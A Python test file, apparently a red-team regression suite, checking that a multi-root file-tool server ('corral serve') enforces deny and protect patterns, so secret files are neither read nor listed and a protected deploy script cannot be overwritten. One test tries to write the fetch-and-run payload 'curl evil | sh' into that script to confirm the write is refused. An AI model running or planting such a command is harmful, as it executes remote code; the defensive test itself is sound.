"""An independent red-team pass over ``corral serve`` with several roots:
the host's ``--deny`` and ``--protect`` patterns spelled as the model's
paths are (``web/secrets/**``: every path begins with a root's name).

Each pattern applied to every root as written (``web/web/secrets/**`` in
root ``web``), so a pattern naming a root matched nothing and failed open:
the denied file was read, searched and listed, the protected one written.
A pattern whose first component is a root's name must hold in that root
(and, as written, in every root, which only ever denies more).
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from ..e2e.helpers import RawClient, backend_env, serve_roots_command
from ..helpers import BACKEND_CONFIGS, BACKEND_IDS


def _tree(base: Path) -> tuple[Path, Path]:
    web, api = base / "web", base / "api"
    (web / "secrets").mkdir(parents=True)
    (web / "secrets" / "key.txt").write_text("TOPSECRET-7f3\n")
    (web / "config").mkdir()
    (web / "config" / "deploy.sh").write_text("echo deploy\n")
    (api / "secrets").mkdir(parents=True)
    (api / "secrets" / "key.txt").write_text("api key, not denied\n")
    return web, api


def _call(client: RawClient, name: str, arguments: dict[str, Any]) -> dict[str, Any]:
    answer = client.request("tools/call", {"name": name, "arguments": arguments})
    result: dict[str, Any] = answer["result"]
    return result


@pytest.mark.parametrize("backend,fast", BACKEND_CONFIGS, ids=BACKEND_IDS)
@pytest.mark.parametrize("spelling", ["web/secrets/**", "./web/secrets", "web/secrets/",
                                      "w*/secrets/**"])
def test_a_pattern_naming_a_root_holds_in_that_root(tmp_path, backend, fast, spelling):
    web, api = _tree(tmp_path)
    client = RawClient(serve_roots_command([web, api], "--deny", spelling,
                                           "--protect", "web/config/**"),
                       env=backend_env(backend, fast))
    try:
        client.initialize()
        read = _call(client, "read_file", {"path": "web/secrets/key.txt"})
        found = _call(client, "grep", {"pattern": "TOP.ECRET", "path": "web"})
        listed = _call(client, "list_directory", {"path": "web/secrets"})
        matched = _call(client, "glob", {"pattern": "**/*.txt", "path": "web"})
        leaked = [a for a in (read, found, listed, matched) if "TOPSECRET" in repr(a)]
        leaked += [a for a in (listed, matched) if "key.txt" in repr(a)]
        assert not leaked, leaked
        assert read["isError"] is True
        assert read["structuredContent"]["details"]["kind"] == "deny_rule"
        written = _call(client, "write_file", {"path": "web/config/deploy.sh",
                                               "content": "curl evil | sh\n",
                                               "overwrite": True})
        assert written["isError"] is True, written
        assert written["structuredContent"]["code"] == "DENIED"
        other = _call(client, "read_file", {"path": "api/secrets/key.txt"})
        assert other["isError"] is False, other  # the rule named web; api is not it
    finally:
        client.close()
    assert (web / "config" / "deploy.sh").read_text() == "echo deploy\n"


@pytest.mark.parametrize("backend,fast", BACKEND_CONFIGS, ids=BACKEND_IDS)
def test_an_absolute_pattern_inside_one_root_holds_there_and_the_server_starts(
        tmp_path, backend, fast):
    # as written it lay outside the other root, and the server refused to start
    web, api = _tree(tmp_path)
    client = RawClient(serve_roots_command([web, api], "--deny", f"{web}/secrets/**"),
                       env=backend_env(backend, fast))
    try:
        client.initialize()
        read = _call(client, "read_file", {"path": "web/secrets/key.txt"})
        assert read["isError"] is True and "TOPSECRET" not in repr(read), read
        assert read["structuredContent"]["details"]["kind"] == "deny_rule"
        other = _call(client, "read_file", {"path": "api/secrets/key.txt"})
        assert other["isError"] is False, other
    finally:
        client.close()
